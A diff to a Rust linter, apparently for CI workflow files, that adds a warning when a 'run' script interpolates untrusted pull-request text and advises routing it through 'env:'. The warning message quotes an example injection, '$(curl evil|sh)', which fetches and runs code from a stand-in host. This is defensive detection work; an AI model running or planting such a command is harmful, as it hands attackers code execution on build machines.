@@ -141,6 +141,15 @@ impl Place<'_> {
             }
         }
         for reference in expr.references() {
+            if self.field == "run" && reference.is_untrusted() {
+                let shown = reference.to_string();
+                sink.warning(
+                    pos,
+                    format!(
+                        "run: `{shown}` is text whoever pushes or opens the pull request chooses, and in a script's text it could run commands (`$(curl evil|sh)`, say): bellwether hands it to bash and sh in a variable, but other shells get it pasted in; pass it through the step's `env:` (`env: {{VALUE: ${{{{ {shown} }}}}}}`) and write \"$VALUE\" in the script"
+                    ),
+                );
+            }
             if let Err(problem) = self.reference(&reference) {
                 let shown = std::iter::once(reference.context.as_str())
                     .chain(reference.path.iter().map(String::as_str))
